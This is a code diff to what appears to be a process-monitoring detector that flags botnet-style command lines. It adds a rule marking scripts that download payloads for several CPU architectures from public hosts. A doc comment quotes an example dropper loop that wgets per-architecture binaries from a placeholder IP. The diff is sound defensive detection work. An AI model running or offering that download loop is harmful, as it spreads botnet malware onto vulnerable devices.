@@ -2,7 +2,7 @@
 import type { ProcessStarted } from "../../events/fact.ts";
 import { isPublicAddress, parseUrl } from "./addresses.ts";
 import { botLair, botName, botWords, dropperName, nonsenseApplet, payloadArchitecture, throwawayFile } from "./bots.ts";
-import { type Command, commandLine, resolvePath } from "./command.ts";
+import { type Command, type CommandLine, commandLine, resolvePath } from "./command.ts";
 import { type Fetch, fetchOf } from "./fetchers.ts";
 import { killedNames } from "./kills.ts";
 import { basename, inTemporaryDirectory } from "./paths.ts";
@@ -26,7 +26,7 @@ export function strongMark(started: ProcessStarted): Mark | undefined {
     const found = applet(command) ?? headerRead(command) ?? byPayload(command) ?? byWords(command) ?? rival(command);
     if (found) return found;
   }
-  return takeover(commands) ?? loaderLine(commands);
+  return takeover(commands) ?? loaderLine(commands) ?? everyProcessor(commandLine(started.process));
 }
 
 function byProgram({ path, written, script }: Program): Mark | undefined {
@@ -153,6 +153,16 @@ function loaderLine(commands: readonly Command[]): Mark | undefined {
   const fetches = commands.filter((command) => fetchOf(command));
   if (tried.length < 3 || fetches.length === 0) return undefined;
   return { mark: "loader line", reason: `tries ${tried.join(", ")} in turn and fetches there` };
+}
+
+/** `for a in mips arm x86; do wget http://203.0.113.9/$a ...`: one payload for every processor. */
+function everyProcessor({ commands, script }: CommandLine): Mark | undefined {
+  if (script === undefined || !commands.some((command) => fetchOf(command)?.hosts.some(isPublicAddress)))
+    return undefined;
+  const words = script.slice(0, 8192).split(/[\s;'"|&()]+/, 512);
+  const processors = new Set(words.flatMap((word) => payloadArchitecture(word) ?? []));
+  if (processors.size < 3) return undefined;
+  return { mark: "payload per processor", reason: `fetches payloads for ${[...processors].slice(0, 8).join(", ")}` };
 }
 
 /** Marks that honest commands leave too, one at a time. */
